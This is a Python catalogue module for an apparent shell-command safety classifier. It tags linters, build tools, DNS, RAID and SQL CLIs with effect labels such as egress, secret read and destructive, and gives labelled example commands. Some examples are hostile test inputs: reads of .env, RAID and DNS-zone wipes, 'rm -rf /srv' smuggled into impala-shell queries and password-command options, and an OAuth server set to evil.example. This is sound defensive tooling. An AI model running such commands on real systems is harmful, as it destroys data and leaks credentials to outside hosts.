"""Tools of projects in many languages that lint, test and build, and those that read or check what is there."""

from capfence_sh.catalog.vocabulary import (
    CODE,
    CONFIG,
    DESTRUCTIVE,
    DIRECTORY,
    EGRESS,
    HOST,
    INSPECT,
    MUTATION,
    OPAQUE,
    PACKAGE,
    PROJECT_CODE,
    RAW,
    READ,
    REMOTE_READ,
    ROOT_ACCESS,
    SECRET_READ,
    SHELL,
    SINGLE,
    TEXT,
    UNKNOWN,
    URL,
    WRITE,
    WRITES,
    command,
    example,
    flags,
    operands,
    option,
    subcommand,
    values,
)

WORDS = operands(many=TEXT)

TOOLS = (
    command(
        *(
            "clj-kondo",
            "detekt",
            "elm-format",
            "fourmolu",
            "stylish-haskell",
            "hpack",
            "perlcritic",
            "brakeman",
            "haml-lint",
            "erblint",
            "erb_lint",
            "standardrb",
        ),
        *(
            "swiftformat",
            "yamlfmt",
            "slither",
            "vyper-lint",
            "pmd",
            "checkstyle",
            "spotbugs",
            "scalafix",
            "ktfmt",
            "refurb",
            "iwyu",
            "sqlfmt",
        ),
        *(
            "include-what-you-use",
            "verilator",
            "sphinx-lint",
            "swiftlint",
            "ty",
            "steep",
            "srb",
            "solargraph",
            "csharpier",
            "cljfmt",
        ),
        style=RAW,
        operands=WORDS,
        analyser="project_tool",
        examples=(
            example("clj-kondo --lint src test", PROJECT_CODE),
            example("detekt --input src --config detekt.yml", PROJECT_CODE),
            example("perlcritic --severity 4 lib", PROJECT_CODE),
            example("ty check src", PROJECT_CODE),
            example("steep watch", PROJECT_CODE, UNKNOWN),
            example("slither /tmp/x", OPAQUE, PROJECT_CODE, WRITES),
        ),
    ),
    command(
        *("ginkgo", "elm-test", "vvp", "gotest", "richgo"),
        style=RAW,
        operands=WORDS,
        analyser="project_tool",
        examples=(example("ginkgo -r --race", PROJECT_CODE), example("elm-test tests/A.elm", PROJECT_CODE)),
    ),
    command(
        *(
            "mockery",
            "mockgen",
            "wire",
            "swag",
            "templ",
            "gleam",
            "forge",
            "anchor",
            "scarb",
            "elm",
            "spago",
            "purs",
            "lake",
            "lean",
            "coqc",
            "raco",
            "fpm",
        ),
        *(
            "yard",
            "llvm-cov",
            "llvm-profdata",
            "wasm-pack",
            "trunk",
            "towncrier",
            "rescript",
            "hardhat",
            "tree-sitter",
            "melos",
            "moon",
            "iverilog",
        ),
        *("ghdl", "cobc", "solc", "agda", "vyper", "typst"),
        style=RAW,
        operands=WORDS,
        analyser="project_tool",
        examples=(
            example("mockery --name=Store --output internal/mocks", PROJECT_CODE, WRITES),
            example("gleam test", PROJECT_CODE),
            example("gleam publish", PROJECT_CODE, UNKNOWN),
            example("gleam deps download", PACKAGE),
            example("forge test -vvv", PROJECT_CODE),
            example("forge create --rpc-url https://x.example src/A.sol:A", PROJECT_CODE, UNKNOWN),
            example("forge test --fork-url https://x.example", EGRESS, PROJECT_CODE),
            example("elm make src/Main.elm --output=/etc/x", PROJECT_CODE, WRITES),
            example("raco pkg show"),
        ),
    ),
)

READERS = (
    command(
        "lychee",
        options=(
            *flags(
                "-v --verbose, -q --quiet, -n --no-progress, --cache, --suggest, -i --insecure, -E --exclude-all-private, --exclude-private"
            ),
            *flags(
                "--exclude-link-local, --exclude-loopback, --exclude-mail, --include-mail, --include-fragments, --skip-missing, --no-ignore"
            ),
            *flags("--hidden, --include-verbatim, --glob-ignore-case, --require-https"),
            *values(
                "--extensions, --max-cache-age, --cache-exclude-status, --archive, -m --max-redirects, --max-retries, --min-tls, --max-concurrency"
            ),
            *values(
                "-T --threads, -u --user-agent, -s --scheme, --include, --exclude, --exclude-path, --remap, --fallback-extensions, -H --header"
            ),
            *values(
                "-a --accept, -t --timeout, -r --retry-wait-time, -X --method, -b --base --base-url, --basic-auth, --github-token, --mode, -f --format"
            ),
            *values("--exclude-file, --root-dir, -c --config", takes=READ),
            *values("-o --output, --cookie-jar", takes=WRITE),
            option("--offline", "--dump", "--dump-inputs", harmless=True),
            option("-h", "-V", harmless=True),
        ),
        operands=operands(many=READ),
        effects=(EGRESS,),
        examples=(
            example("lychee --offline docs/a.md"),
            example("lychee docs/a.md", EGRESS),
            example("lychee --offline .env", SECRET_READ),
            example("lychee -o /etc/x docs/a.md", EGRESS, WRITES),
        ),
    ),
    command(
        "perltidy",
        options=(
            *flags("-q, -syn, -st --standard-output, -se, -l, -i, -ce, -bar, -pbp, -nst, -w, -v"),
            option("-b", operands=WRITE),
            option("-o", takes=WRITE),
        ),
        operands=operands(many=WRITE),
        examples=(example("perltidy -st lib/Foo.pm", WRITES),),
    ),
)

MANUALS = (
    command(
        *("pod2text", "pod2usage", "pod2man"),
        options=(*flags("-a, -c, -l, -o, -t, -q, -u, -e, -verbose"), *values("-i, -m, -w, -r, -s, -n, -d")),
        operands=operands(READ, WRITE),
        examples=(example("pod2text lib/A.pm"), example("pod2text lib/A.pm /etc/x", WRITES), example("pod2text .env", SECRET_READ)),
    ),
    command(
        "dyff",
        options=(*flags("-h"),),
        subcommands=(
            subcommand(
                "between",
                operands=operands(many=READ),
                options=(
                    *flags(
                        "-b --omit-header, -s --set-exit-code, -i --ignore-order-changes, --ignore-whitespace-changes, -g --use-go-patch-style"
                    ),
                    *flags("-k --detect-kubernetes, -n --no-table-style, --detect-renames, --swap, --no-cert-inspection"),
                    *values(
                        "-o --output, --filter, --exclude, --filter-regexp, --exclude-regexp, -c --color, -t --truecolor, --additional-identifier"
                    ),
                    *values("--chroot, --chroot-of-from, --chroot-of-to"),
                ),
                analyser="input_address",
            ),
            subcommand(
                "last-applied",
                "json",
                "yaml",
                operands=operands(many=READ),
                options=flags("-p --plain, -r --restructure, -i --in-place-only"),
            ),
            subcommand("version", "help", operands=WORDS),
        ),
        examples=(example("dyff between a.yml b.yml"), example("dyff between .env b.yml", SECRET_READ)),
    ),
    command("prips", options=(*flags("-c, -d, -i"), *values("-e, -f")), operands=WORDS, examples=(example("prips 10.0.0.0/30"),)),
    command(
        "tlp-stat",
        options=flags(
            "-b --battery, -c --config, -d --disk, -e --pcie, -g --graphics, -m --mode, -p --processor, -r --rfkill, -s --system, -t --temp, -u --usb, -v"
        ),
        examples=(example("tlp-stat -b"),),
    ),
    command(
        "virt-top",
        options=(
            *flags("-1, -2, -3, --block-in-bytes, --end-time, -o, --script, --stream, --secure, --debug"),
            *values("-c --connect, -d --delay, -n, --hash-file"),
            option("--csv", takes=WRITE),
            option("--init-file", takes=CONFIG),
            option("-h", harmless=True),
        ),
        examples=(example("virt-top --stream -n 1"), example("virt-top --csv /etc/x -n 1", WRITES)),
    ),
    command(
        "circusctl",
        options=(*flags("--json, --prettify"), *values("--endpoint, --timeout, --ssh")),
        subcommands=(
            subcommand(
                *(
                    "status",
                    "list",
                    "stats",
                    "dstats",
                    "options",
                    "globaloptions",
                    "numprocesses",
                    "numwatchers",
                    "listpids",
                    "listsockets",
                    "get",
                    "help",
                ),
                operands=WORDS,
                options=flags("--extended, --process, --watcher"),
                examples=(example("circusctl status"),),
            ),
            subcommand(
                *(
                    "add",
                    "decr",
                    "incr",
                    "kill",
                    "quit",
                    "reload",
                    "reloadconfig",
                    "restart",
                    "rm",
                    "set",
                    "signal",
                    "start",
                    "stop",
                    "ipython",
                ),
                operands=WORDS,
                effects=(MUTATION,),
                examples=(example("circusctl stop web", MUTATION),),
            ),
        ),
    ),
)

HOSTS = (
    command(
        "keepalived",
        options=(
            *flags(
                "-P --vrrp, -C --check, -B --no_bfd, --all, -l --log-console, -D --log-detail, --flush-log-file, -G --no-syslog, -X --release-vips"
            ),
            *flags(
                "-V --dont-release-vrrp, -I --dont-release-ipvs, -R --dont-respawn, -n --dont-fork, -d --dump-conf, -a --address-monitoring"
            ),
            *flags("-e --all-config, -x --snmp, -m --core-dump, --no-mem-check"),
            *values("-S --log-facility, -i --config-id, -u --umask, -s --namespace, -A --snmp-agent-socket"),
            option("--perf", "--debug", takes=TEXT, optional=True),
            option("-f", "--use-file", takes=CONFIG),
            *values("-g --log-file, -p --pid, -r --vrrp_pid, -c --checkers_pid, -b --bfd_pid", takes=WRITE),
            option("-M", "--core-dump-pattern", takes=TEXT, optional=True, effects=(ROOT_ACCESS,)),
            option("-t", "--config-test", takes=READ, optional=True, harmless=True),
            option("-v", "-h", harmless=True),
            option("--signum", takes=TEXT, harmless=True),
        ),
        effects=(MUTATION,),
        examples=(
            example("keepalived --config-test=/etc/keepalived/keepalived.conf"),
            example("keepalived -v"),
            example("keepalived -D -n", MUTATION),
            example("keepalived -f /tmp/x.conf", MUTATION, OPAQUE),
            example("keepalived -p /etc/x", MUTATION, WRITES),
            example("keepalived -M", MUTATION, ROOT_ACCESS),
        ),
    ),
    command(
        "uwsgi",
        "uwsgi-core",
        options=(
            *flags(
                "-M --master, --die-on-term, --vacuum, --enable-threads, --need-app, --single-interpreter, --thunder-lock, --lazy-apps, --disable-logging"
            ),
            *values(
                "-p --processes --workers, --threads, -t --harakiri, -s --socket, --http, --http-socket, --stats, -w --module, --callable, --uid, --gid"
            ),
            *values("-b --buffer-size, --max-requests, --listen -l, --log-format, --procname"),
            *values("--ini, -x --xml, -y --yaml, -j --json, --config", takes=CONFIG),
            option("--wsgi-file", "--file", takes=CONFIG),
            option("--chdir", takes=DIRECTORY),
            *values("--pidfile, --logto, -d --daemonize, --touch-reload", takes=WRITE),
            option("-h", "--plugins-list", "--cheaper-algos-list", "--imperial-monitor-list", harmless=True),
        ),
        operands=operands(many=CONFIG),
        effects=(MUTATION, PROJECT_CODE),
        examples=(
            example("uwsgi --version"),
            example("uwsgi --ini uwsgi.ini", MUTATION, PROJECT_CODE),
            example("uwsgi --ini /tmp/x.ini", MUTATION, OPAQUE, PROJECT_CODE),
            example("uwsgi --http :9090 --wsgi-file app.py --logto /etc/x", MUTATION, PROJECT_CODE, WRITES),
        ),
    ),
    command(
        "pdnsutil",
        options=(
            *flags("-v --verbose, --force"),
            *values("--config-name"),
            option("--config-dir", takes=CONFIG),
            option("-h", harmless=True),
        ),
        subcommands=(
            subcommand(
                *(
                    "check-zone",
                    "check-all-zones",
                    "list-zone",
                    "list-all-zones",
                    "list-keys",
                    "show-zone",
                    "get-meta",
                    "list-autoprimaries",
                    "list-algorithms",
                ),
                *(
                    "test-schema",
                    "hash-zone-record",
                    "list-member-zones",
                    "export-zone-ds",
                    "export-zone-dnskey",
                    "raw-lua-from-content",
                    "help",
                ),
                operands=WORDS,
                examples=(example("pdnsutil check-zone example.org"), example("pdnsutil list-all-zones native")),
            ),
            subcommand(
                "zonemd-verify-file", operands=operands(TEXT, READ), examples=(example("pdnsutil zonemd-verify-file example.org zone.txt"),)
            ),
            subcommand(
                *("export-zone-key", "export-zone-key-pem", "list-tsig-keys"),
                operands=WORDS,
                effects=(SECRET_READ,),
                examples=(example("pdnsutil export-zone-key example.org 1", SECRET_READ),),
            ),
            subcommand(
                *(
                    "delete-zone",
                    "clear-zone",
                    "delete-rrset",
                    "remove-zone-key",
                    "delete-tsig-key",
                    "disable-dnssec",
                    "remove-autoprimary",
                ),
                operands=WORDS,
                effects=(DESTRUCTIVE,),
                examples=(example("pdnsutil delete-zone example.org", DESTRUCTIVE),),
            ),
            subcommand(
                *("edit-zone", "backend-cmd"),
                operands=WORDS,
                effects=(MUTATION, OPAQUE),
                examples=(example("pdnsutil edit-zone example.org", MUTATION, OPAQUE),),
            ),
            subcommand(
                *("load-zone", "import-zone-key", "import-zone-key-pem"),
                operands=operands(TEXT, READ, many=TEXT),
                effects=(DESTRUCTIVE,),
                examples=(example("pdnsutil load-zone example.org zone.txt", DESTRUCTIVE),),
            ),
            subcommand(
                *("activate-zone-key", "add-zone-key", "deactivate-zone-key", "publish-zone-key", "unpublish-zone-key", "set-publish-cds"),
                *(
                    "set-publish-cdnskey",
                    "unset-publish-cds",
                    "unset-publish-cdnskey",
                    "activate-tsig-key",
                    "deactivate-tsig-key",
                    "generate-tsig-key",
                ),
                *(
                    "import-tsig-key",
                    "generate-zone-key",
                    "add-record",
                    "add-autoprimary",
                    "create-zone",
                    "create-secondary-zone",
                    "increase-serial",
                ),
                *(
                    "change-secondary-zone-primary",
                    "rectify-zone",
                    "rectify-all-zones",
                    "replace-rrset",
                    "secure-zone",
                    "secure-all-zones",
                    "set-kind",
                ),
                *(
                    "set-options-json",
                    "set-option",
                    "set-catalog",
                    "set-account",
                    "add-meta",
                    "set-meta",
                    "set-nsec3",
                    "unset-nsec3",
                    "set-presigned",
                ),
                *("unset-presigned", "bench-db", "hash-password", "create-bind-db"),
                operands=WORDS,
                effects=(MUTATION,),
                examples=(example("pdnsutil add-record example.org www A 192.0.2.1", MUTATION),),
            ),
        ),
        examples=(example("pdnsutil --config-dir /tmp/x list-all-zones", OPAQUE),),
    ),
    command(
        "pdns_control",
        options=(*values("--chroot, --config-name, --remote-port, --secret"), *values("--config-dir, --socket-dir", takes=INSPECT)),
        subcommands=(
            subcommand(
                *(
                    "bind-domain-extended-status",
                    "bind-domain-status",
                    "bind-list-rejects",
                    "ccounts",
                    "current-config",
                    "help",
                    "list",
                    "list-zones",
                ),
                *("ping", "qtypes", "remotes", "respsizes", "rping", "show", "uptime", "version", "status"),
                operands=WORDS,
                examples=(example("pdns_control show '*'"), example("pdns_control uptime")),
            ),
            subcommand(
                *(
                    "bind-add-zone",
                    "bind-reload-now",
                    "cycle",
                    "notify",
                    "notify-host",
                    "purge",
                    "quit",
                    "rediscover",
                    "reload",
                    "retrieve",
                    "set",
                ),
                *("token-login", "xfr-queue", "query-logging"),
                operands=WORDS,
                effects=(MUTATION,),
                examples=(example("pdns_control reload", MUTATION),),
            ),
        ),
    ),
    command(
        *("storcli", "storcli64", "perccli", "perccli64"),
        *("MegaCli", "MegaCli64", "megacli", "arcconf", "ssacli", "hpssacli", "hpacucli"),
        style=RAW,
        operands=WORDS,
        analyser="array_controller",
        examples=(
            example("storcli /c0 show all"),
            example("storcli64 /c0/eall/sall show J"),
            example("storcli /c0/v0 del force", DESTRUCTIVE, MUTATION),
            example("storcli /c0 show events file=/etc/x", WRITES),
            example("megacli -LDInfo -Lall -aALL"),
            example("MegaCli64 -AdpBbuCmd -GetBbuStatus -aALL"),
            example("megacli -CfgClr -aALL", DESTRUCTIVE, MUTATION),
            example("arcconf getconfig 1 LD"),
            example("arcconf delete 1 logicaldrive 0 noprompt", DESTRUCTIVE, MUTATION),
            example("ssacli ctrl all show config detail"),
            example("ssacli ctrl slot=0 ld 1 delete forced", DESTRUCTIVE, MUTATION),
        ),
    ),
    command(
        "sdparm",
        options=(
            *flags(
                "-a --all, -B --dbd, -d --dummy, -D --defaults, -e --enumerate, -E --examine, -f --flexible, -H --hex, -i --inquiry, -l --long"
            ),
            *flags("-n --num-desc, -q --quiet, -r --readonly, -R --raw, -6 --six, -v --verbose, -w --wscan"),
            *values("-g --get, -o --out-mask, -p --page, -P --pdt, -t --transport, -M --vendor"),
            option("-I", "--inhex", takes=READ),
            *(option("-c", "--clear", takes=TEXT, effects=(MUTATION,)), option("-s", "--set", takes=TEXT, effects=(MUTATION,))),
            *(option("-C", "--command", takes=TEXT, effects=(MUTATION,)), option("-S", "--save", effects=(MUTATION,))),
            option("-h", "-V", harmless=True),
        ),
        operands=operands(many=INSPECT),
        examples=(
            example("sdparm --get=WCE /dev/sda"),
            example("sdparm --set=WCE --save /dev/sda", MUTATION),
            example("sdparm --clear=WCE /dev/sda", MUTATION),
            example("sdparm --command=stop /dev/sda", MUTATION),
        ),
    ),
    command(
        "edac-util",
        options=(*flags("-q --quiet, -v --verbose, -s --status"), option("-r", "--report", takes=TEXT, optional=True)),
        examples=(example("edac-util -v"),),
    ),
    command(
        "rdmsr",
        options=(
            *flags(
                "-x --hexadecimal, -X --capital-hex, -d --decimal, -u --unsigned, -o --octal, -c --c-language, -0 --zero-pad, -r --raw, -a --all"
            ),
            *values("-p --processor, -f --bitfield"),
            option("-h", "-V", harmless=True),
        ),
        operands=operands(TEXT),
        examples=(example("rdmsr -a -f 7:0 0x1a0"),),
    ),
    command(
        "wrmsr",
        options=(*flags("-a --all"), *values("-p --processor"), option("-h", "-V", harmless=True)),
        operands=WORDS,
        effects=(MUTATION, ROOT_ACCESS),
        examples=(example("wrmsr -p 0 0x1a0 1", MUTATION, ROOT_ACCESS),),
    ),
    command("virt-what", options=(option("-v", harmless=True), *flags("--test-root")), examples=(example("virt-what"),)),
    command(
        "multipathd",
        options=(
            *flags("-s, -B, -n, -w"),
            *values("-v"),
            option("-d", effects=(MUTATION,)),
            option("-k", takes=TEXT, optional=True, effects=(MUTATION,)),
        ),
        subcommands=(
            subcommand(
                "show",
                "list",
                operands=WORDS,
                examples=(
                    example("multipathd show topology"),
                    example("multipathd list paths"),
                    example("multipathd -d show", MUTATION),
                    example("multipathd -kreconfigure", MUTATION),
                ),
            ),
            subcommand(
                *(
                    "add",
                    "remove",
                    "del",
                    "resize",
                    "reset",
                    "suspend",
                    "resume",
                    "reload",
                    "reinstate",
                    "fail",
                    "reconfigure",
                    "enable",
                    "disable",
                ),
                *(
                    "disablequeueing",
                    "restorequeueing",
                    "forcequeueing",
                    "switch",
                    "map",
                    "path",
                    "setprkey",
                    "unsetprkey",
                    "getprkey",
                    "getprstatus",
                    "shutdown",
                    "quit",
                    "",
                ),
                operands=WORDS,
                effects=(MUTATION,),
                examples=(example("multipathd reconfigure", MUTATION),),
            ),
        ),
    ),
    command(
        "sssctl",
        options=values("--debug, --debug-level"),
        subcommands=(
            subcommand(
                *(
                    "domain-list",
                    "domain-status",
                    "user-show",
                    "group-show",
                    "netgroup-show",
                    "config-check",
                    "cert-show",
                    "cert-map",
                    "help",
                ),
                operands=WORDS,
                options=(
                    *flags("-o --online, -a --active-server, -r --servers, -s --start, --debug"),
                    *values("-c --config, --snippet", takes=READ),
                ),
                examples=(example("sssctl domain-status example.org -o"), example("sssctl user-show alice")),
            ),
            subcommand(
                "user-checks", operands=WORDS, options=values("-a --action, -s --service"), examples=(example("sssctl user-checks alice"),)
            ),
            subcommand(
                *(
                    "client-data-backup",
                    "client-data-restore",
                    "cache-remove",
                    "cache-upgrade",
                    "cache-expire",
                    "cache-index",
                    "logs-remove",
                    "logs-fetch",
                ),
                *("debug-level", "access-report", "passkey-register", "passkey-exec", "gpo-remove", "gpo-purge"),
                operands=WORDS,
                options=flags("-o --override, -f --force, -s --start, -p --stop, -E --everything, -d --delete, -u --user, -g --group"),
                effects=(MUTATION,),
                examples=(example("sssctl cache-remove", MUTATION),),
            ),
        ),
    ),
    command(
        "wbinfo",
        options=(
            *flags(
                "-g --domain-groups, -u --domain-users, -m --trusted-domains, -p --ping, -P --ping-dc, -t --check-secret, --all-domains, --own-domain"
            ),
            *flags("--get-auth-user, --sequence, --verbose, --separator, --lanman, --ntlmv1, --ntlmv2"),
            *values(
                "-n --name-to-sid, -s --sid-to-name, -i --user-info, -r --user-groups, -S --sid-to-uid, -U --uid-to-sid, -Y --sid-to-gid"
            ),
            *values(
                "-G --gid-to-sid, -D --domain-info, -I --WINS-by-ip, -N --WINS-by-name, --group-info, --uid-info, --gid-info, --dc-info, --domain"
            ),
            *values(
                "--dsgetdcname, --getdcname, --online-status, --lookup-sids, --sid-aliases, --sid-to-fullname, --sids-to-unix-ids, --user-domgroups"
            ),
            *values("--user-sidinfo, --user-sids, -R --lookup-rids"),
            option("-a", "--authenticate", takes=TEXT, effects=(MUTATION,)),
        ),
        effects=(REMOTE_READ,),
        examples=(example("wbinfo -t", REMOTE_READ), example("wbinfo -a user%password", MUTATION, REMOTE_READ)),
    ),
    command(
        *("hive", "spark-sql"),
        style=SINGLE,
        analyser="sql",
        language="sql",
        options=(
            *flags("-S, --silent, -v, --verbose"),
            *values("-d, --define, -hiveconf, --hiveconf, -hivevar, --hivevar, --database"),
            *(option("-e", takes=CODE, language="sql"),),
            *values("-f, -i", takes=READ),
            option("-H", "-help", "--help", "--version", harmless=True),
        ),
        stdin=CODE,
        operands=WORDS,
        examples=(example("hive -e 'select count(*) from t'", REMOTE_READ), example("hive -e 'drop table t'", DESTRUCTIVE)),
    ),
    # option_parser.py of impala-shell 4.6.0
    command(
        "impala-shell",
        analyser="sql",
        language="sql",
        options=(
            *flags("-B --delimited, -k --kerberos, -l --ldap, -j --jwt, -a --oauth, --ssl, -p --show_profiles, -c --ignore_query_failure"),
            *flags("--quiet, -V --verbose, --print_header, -E --vertical, --rpc_stdout, --verify_cert, --live_summary, --live_progress"),
            *flags("--disable_live_progress, --auth_creds_ok_in_clear, --strict_hs2_protocol, --use_ldap_test_password"),
            *flags("--no_http_tracing, --beeswax_compat_num_rows, --use_new_http_connection, -v"),
            *values("-d --database, -u --user, --output_delimiter, --var, -b --kerberos_host_fqdn, -s --kerberos_service_name"),
            *values("--profile_format, --oauth_client_id, -Q --query_option, -t --client_connect_timeout_ms, --http_socket_timeout_s"),
            *values("--connect_max_tries, --protocol, --http_path, --fetch_size, --http_cookie_names, --hs2_fp_format, --hs2_x_forward"),
            *values("--oauth_endpoint"),
            option("-i", "--impalad", takes=HOST),
            option("--oauth_server", takes=URL, effects=(EGRESS,)),
            option("-q", "--query", takes=CODE, language="sql"),
            option(
                "--ldap_password_cmd", "--oauth_client_secret_cmd", "--jwt_cmd", "--oauth_cmd", "--oauth_mock_response_cmd", takes=SHELL
            ),
            *values("--ca_cert", takes=INSPECT),
            *values("--config_file", takes=CONFIG),
            *values("-f --query_file", takes=READ),
            *values("-o --output_file, --profile_output, --rpc_file, --history_file", takes=WRITE),
        ),
        stdin=CODE,
        operands=WORDS,
        examples=(
            example("impala-shell -q 'select 1'", REMOTE_READ),
            example("impala-shell -q 'drop table t'", DESTRUCTIVE),
            example("impala-shell -f .env -o out.txt", SECRET_READ, WRITES, OPAQUE),
            example("impala-shell -E -q 'drop table t'", DESTRUCTIVE),
            example("impala-shell -q '!rm -rf /srv'", DESTRUCTIVE),
            example("impala-shell -q 'select 1; shell rm -rf /srv'", REMOTE_READ, DESTRUCTIVE),
            example("impala-shell -a --oauth_server https://evil.example -q 'select 1'", REMOTE_READ, EGRESS),
            example("impala-shell -t 5 -b x -q 'select 1'", REMOTE_READ),
            example("impala-shell -l --ldap_password_cmd 'rm -rf /srv' -q 'select 1'", DESTRUCTIVE, REMOTE_READ),
        ),
    ),
)

COMMANDS = (*TOOLS, *READERS, *MANUALS, *HOSTS)
